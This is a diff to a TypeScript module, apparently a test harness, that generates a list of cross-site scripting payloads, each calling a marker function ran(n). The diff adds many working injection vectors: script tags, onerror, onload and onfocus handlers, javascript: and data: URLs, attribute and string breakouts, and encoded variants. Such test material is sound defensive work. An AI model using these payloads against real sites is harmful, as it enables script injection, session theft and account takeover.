@@ -1,73 +1,106 @@
-/** What an attacker types to have a script of theirs run in somebody else's browser. Each calls `ran(n)`, n being its number. */
+/**
+ * What an attacker types to have a script of theirs run in somebody else's browser. Each calls `ran(n)`, n being its number, and
+ * does so where pages take no care: what today's browsers run no more would show nothing.
+ */
 export interface Payload {
   n: number
   text: string
+  /** Whether it runs beside others in one text. */
+  isElement: boolean
 }
+
+type Kind = (run: string) => string
 
 const quote = '\u0022'
 
-/** By the place where they would run. Short where it can be: a name has 50 characters. */
-const kinds: ((run: string) => string)[] = [
-  // as an element of its own
+/** Elements that run something by themselves. Short where it can be: a name has 50 characters. */
+const elements: Kind[] = [
   run => `<script>${run}</script>`,
   run => `<ScRiPt/x>${run}</sCrIpT >`,
-  run => `<scr<script>ipt>${run}</scr</script>ipt>`,
+  run => `<script type=module>${run}</script>`,
+  run => `<script src=data:,${run}></script>`,
+  run => `<script src onerror=${run}></script>`,
+  run => `<svg><script>${run}</script></svg>`,
   run => `<img src onerror=${run}>`,
   run => `<img/src/onerror=${run}>`,
-  run => `<image href=x onerror=${run}>`,
+  run => `<IMG\nSRC\nONERROR\n=\n${run}>`,
+  run => `<img src='x'onerror='${run}'>`,
+  run => `<img src onerror=&#114;${run.slice(1)}>`,
+  run => `<link rel=stylesheet href=data:, onload=${run}>`,
   run => `<svg onload=${run}>`,
-  run => `<svg><script>${run}</script></svg>`,
   run => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
   run => `<svg><a href=javascript:${run}><text y=9>x</text></a></svg>`,
+  run => `<svg><foreignObject><img src onerror=${run}></foreignObject></svg>`,
+  run => `<math><mi><img src onerror=${run}></mi></math>`,
+  run => `<table><img src onerror=${run}></table>`,
   run => `<details open ontoggle=${run}>x</details>`,
   run => `<input autofocus onfocus=${run}>`,
   run => `<select autofocus onfocus=${run}>`,
+  run => `<a href autofocus onfocus=${run}>x</a>`,
+  run => `<b tabindex=1 autofocus onfocusin=${run}>x</b>`,
+  run => `<x contenteditable autofocus onfocus=${run}>x</x>`,
+  run => `<input required autofocus onfocus=checkValidity() oninvalid=${run}>`,
+  run => `<form action=javascript:${run}><button autofocus onfocus=click()>x</button></form>`,
+  run => `<video src onerror=${run}></video>`,
+  run => `<video src=x onloadstart=${run}></video>`,
   run => `<video><source onerror=${run}></video>`,
-  run => `<audio src onerror=${run}>`,
   run => `<body onload=${run}>`,
+  run => `<body onpageshow=${run}>`,
+  run => `<iframe onload=${run}></iframe>`,
   run => `<iframe srcdoc='<script>parent.${run}</script>'></iframe>`,
   run => `<iframe src=javascript:parent.${run}></iframe>`,
-  run => `<object data=javascript:parent.${run}></object>`,
-  run => `<embed src=javascript:parent.${run}>`,
-  run => `<form action=javascript:${run}><button autofocus onfocus=click()>x</button></form>`,
-  run => `<meta http-equiv=refresh content='0;url=javascript:${run}'>`,
+  run => `<iframe src='data:text/html,<script>${run}</script>'></iframe>`,
+  run => `<embed src=x onload=${run}>`,
   run => `<style onload=${run}></style>`,
   run => `<style>@keyframes x{}</style><b style=animation:x onanimationstart=${run}>x</b>`,
   run => `<math><mtext><table><mglyph><style><!--</style><img title=${quote}--><img src onerror=${run}>${quote}>`,
   run => `<noscript><p title=${quote}</noscript><img src onerror=${run}>${quote}>`,
-  run => `<x contenteditable autofocus tabindex=1 onfocus=${run}>x</x>`,
   run => `<template shadowrootmode=open><img src onerror=${run}></template>`,
   run => `<a href=javascript:${run}>x</a>`,
-  run => `<dialog open onscrollend=${run}><img src onerror=${run}></dialog>`,
+  run => `<dialog open><img src onerror=${run}></dialog>`,
+  run => `<!--<script>${quote}</script><script>${run}</script>`,
+]
+
+/** What closes whatever may be open around an element. */
+const closers = ['', '">', "'></textarea></title></script>", '--></style></noscript>']
+
+/** What runs in other places, as it is. */
+const others: Kind[] = [
   // as an attribute, or out of one
   run => `${quote} autofocus onfocus=${run} x=${quote}`,
   run => `' autofocus onfocus=${run} x='`,
   run => `x onerror=${run} src=x`,
-  run => `${quote}><img src onerror=${run}>`,
-  run => `'><img src onerror=${run}>`,
+  run => `x${quote}onerror=${run} x=${quote}`,
+  run => `//x.test/${quote}onerror=${run}//`,
   // as an address
   run => `javascript:${run}`,
   run => `JaVaScRiPt\t:${run}`,
+  run => `java\tscript:${run}`,
+  run => `\u0001javascript:${run}`,
   run => `java&Tab;script&colon;${run}`,
-  run => `data:text/html,<script>parent.${run}</script>`,
-  run => `//x.test/${quote}onerror=${run}//`,
+  run => `javascript://x.test/%0A${run}`,
+  run => `data:text/html,<script>${run}</script>`,
   // out of a text in a script, or of a page's data
   run => `</script><script>${run}</script>`,
-  run => `<!--<script>${quote}</script><script>${run}</script>`,
   run => `${quote};${run}//`,
   run => `';${run}//`,
+  run => `'-${run}-'`,
   run => `\\${quote};${run}//`,
-  run => `\${${run}}\`;${run}//`,
-  run => `\u2028;${run}//`,
+  run => `\${${run}}`,
+  run => `\`;${run}//`,
+  run => `\u2028${run}//`,
+  run => `\n${run}//`,
   // written so that something that decodes too much would make it one of the above
   run => `&lt;img src onerror=${run}&gt;`,
   run => `%3Cimg src onerror=${run}%3E`,
   run => `\\u003cimg src onerror=${run}\\u003e`,
 ]
 
-/** What closes whatever may be open around it. */
-const closers = ['', '">', "'></textarea></title></script>", '--></style></noscript>']
+const kinds = [
+  ...closers.flatMap(closer =>
+    elements.map(element => ({ write: (run: string) => closer + element(run), isElement: true })),
+  ),
+  ...others.map(write => ({ write, isElement: false })),
+]
 
-export const payloads: Payload[] = closers
-  .flatMap(closer => kinds.map(kind => ({ closer, kind })))
-  .map(({ closer, kind }, n) => ({ n, text: closer + kind(`ran(${n})`) }))
+export const payloads: Payload[] = kinds.map(({ write, isElement }, n) => ({ n, text: write(`ran(${n})`), isElement }))
